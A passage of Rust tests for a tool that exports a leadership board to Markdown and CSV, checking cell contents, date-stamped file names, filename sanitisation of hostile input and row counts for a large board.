    for (row, check_in) in check_ins[1..].iter().zip(board.check_ins.iter()) {
        assert_cell(&row[note], &check_in.note);
    }
    let (need, answer) = (
        column(dependencies, "Need"),
        column(dependencies, "Answer note"),
    );
    for (row, dependency) in dependencies[1..].iter().zip(board.dependencies.iter()) {
        assert_cell(&row[need], &dependency.need);
        assert_cell(&row[answer], &dependency.answer_note);
    }
    let (title, rationale) = (column(decisions, "Title"), column(decisions, "Rationale"));
    for (row, decision) in decisions[1..].iter().zip(board.decisions.iter()) {
        assert_cell(&row[title], &decision.title);
        assert_cell(&row[rationale], &decision.rationale);
    }
    // The hostile texts all went through, the long one whole.
    let all: String = tables
        .iter()
        .flatten()
        .flatten()
        .map(String::as_str)
        .collect();
    for text in hostile_texts() {
        assert!(all.contains(&text), "{text:.60}");
    }
}

// File names

#[test]
fn files_are_named_after_the_board_and_the_day() {
    let board = example_board(today());
    assert_eq!(
        file_stem(&board, today()),
        "fieldnote-leadership-board-2026-11-23"
    );
    assert_eq!(
        markdown_file_name(&board, today()),
        "fieldnote-leadership-board-2026-11-23.md"
    );
    let names: Vec<String> = Table::ALL
        .iter()
        .map(|t| t.file_name(&board, today()))
        .collect();
    assert_eq!(
        names,
        [
            "fieldnote-leadership-board-2026-11-23-initiatives.csv",
            "fieldnote-leadership-board-2026-11-23-check-ins.csv",
            "fieldnote-leadership-board-2026-11-23-dependencies.csv",
            "fieldnote-leadership-board-2026-11-23-decisions.csv",
        ]
    );
    let hostile = hostile_board();
    let stem = file_stem(&hostile, today());
    assert!(
        stem.chars().all(|c| c.is_ascii_alphanumeric() || c == '-'),
        "{stem}"
    );
}

// The big board

#[test]
fn the_big_board_exports_every_initiative_and_check_in() {
    let size = Size {
        teams: 40,
        priorities: 12,
        initiatives: 2000,
        check_ins: 20_000,
    };
    let board = big_board(size, today());
    let (page, _) = page(&board, now_on(today()));
    let rows_under_priorities: usize = board
        .ranked_priorities()
        .iter()
        .enumerate()
        .map(|(n, p)| {
            let heading = format!("### {}. {}", n + 1, p.title);
            table(&section(&page, &heading)).map_or(0, |t| t.rows.len())
        })
        .sum();
    let served: usize = board.initiatives.iter().map(|i| i.priority_ids.len()).sum();
    assert_eq!(rows_under_priorities, served);
    let local = table(&section(&page, "## Local work")).unwrap().rows.len();
    assert_eq!(
        local,
        board
            .initiatives
            .iter()
            .filter(|i| i.priority_ids.is_empty())
            .count()
    );
    assert_eq!(
        read_csv(&initiatives_csv(&board, Separator::Comma)).len(),
        2001
    );
    assert_eq!(
        read_csv(&check_ins_csv(&board, Separator::Comma)).len(),
        20_001
    );
    assert_eq!(
        read_csv(&dependencies_csv(&board, Separator::Comma)).len(),
        101
    );
}
